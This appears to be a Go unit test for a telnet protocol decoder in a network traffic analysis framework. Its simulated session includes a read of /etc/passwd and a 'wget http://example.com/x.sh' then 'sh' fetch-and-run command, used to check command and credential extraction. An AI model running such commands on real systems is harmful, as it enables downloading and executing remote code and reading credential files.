@@ -0,0 +1,79 @@
+/*
+ * NETCAP - Traffic Analysis Framework
+ * Copyright (c) 2017-2020 Philipp Mieden <dreadl0ck [at] protonmail [dot] ch>
+ *
+ * THE SOFTWARE IS PROVIDED "AS IS" AND THE AUTHOR DISCLAIMS ALL WARRANTIES
+ * WITH REGARD TO THIS SOFTWARE INCLUDING ALL IMPLIED WARRANTIES OF
+ * MERCHANTABILITY AND FITNESS. IN NO EVENT SHALL THE AUTHOR BE LIABLE FOR
+ * ANY SPECIAL, DIRECT, INDIRECT, OR CONSEQUENTIAL DAMAGES OR ANY DAMAGES
+ * WHATSOEVER RESULTING FROM LOSS OF USE, DATA OR PROFITS, WHETHER IN AN
+ * ACTION OF CONTRACT, NEGLIGENCE OR OTHER TORTIOUS ACTION, ARISING OUT OF
+ * OR IN CONNECTION WITH THE USE OR PERFORMANCE OF THIS SOFTWARE.
+ */
+
+package telnet
+
+import (
+	"reflect"
+	"testing"
+
+	"github.com/dreadl0ck/netcap/decoder/core"
+	"github.com/dreadl0ck/netcap/reassembly"
+)
+
+// conversation creates the fragments for the data, alternating between server and client.
+func conversation(server bool, data ...string) (fragments core.DataFragments) {
+	for _, d := range data {
+		dir := reassembly.TCPDirClientToServer
+		if server {
+			dir = reassembly.TCPDirServerToClient
+		}
+
+		fragments = append(fragments, &core.StreamData{RawData: []byte(d), Dir: dir})
+		server = !server
+	}
+
+	return fragments
+}
+
+func TestLogin(t *testing.T) {
+	r := decode(conversation(true,
+		// option negotiation, the sub negotiation of the client is split over two fragments
+		"\xff\xfd\x18", "\xff\xfb\x18\xff\xfa\x18\x00xte",
+		"\xff\xfb\x01\xff\xfb\x03Welcome to the router\r\n\r\nrouter login: ", "rm\xff\xf0root\r\x00",
+		// the server echoes the typed characters
+		"root\r\nPassword: ", "wrong\r\n",
+		"\r\nLogin incorrect\r\nrouter login: ", "a",
+		"a", "x",
+		"x", "\x08",
+		"\b \b", "dmin\r\x00",
+		"dmin\r\nPassword: ", "se\x7fecret\r\n",
+		"\r\nBusyBox v1.24.1 built-in shell\r\n# ", "cat /etc/passwd\r\n",
+		"root:x:0:0:root:/root:/bin/sh\r\n# ", "wget http://example.com/x.sh\xff\xf7\xff\xf7sh junk\x17\x15uname -a\r\n",
+		"Linux router\r\n# ", "exit",
+	))
+
+	if r.Banner != "Welcome to the router" {
+		t.Errorf("unexpected banner: %q", r.Banner)
+	}
+
+	if r.User != "admin" || r.Password != "secret" || r.LoginFailed || r.LoginAttempts != 2 {
+		t.Errorf("unexpected login: %+v", r)
+	}
+
+	expected := []string{"cat /etc/passwd", "uname -a", "exit"}
+	if !reflect.DeepEqual(r.Commands, expected) {
+		t.Errorf("expected commands %q, got %q", expected, r.Commands)
+	}
+}
+
+func TestLoginServerEcho(t *testing.T) {
+	// only the server side has been captured, the user name is recovered from the echo
+	r := decode(conversation(true,
+		"\xff\xfb\x01login: ", "", "u", "", "ser\r\nPassword: ", "", "\r\nLogin incorrect\r\n",
+	))
+
+	if r.User != "user" || r.Password != "" || !r.LoginFailed || r.LoginAttempts != 1 {
+		t.Errorf("unexpected login: %+v", r)
+	}
+}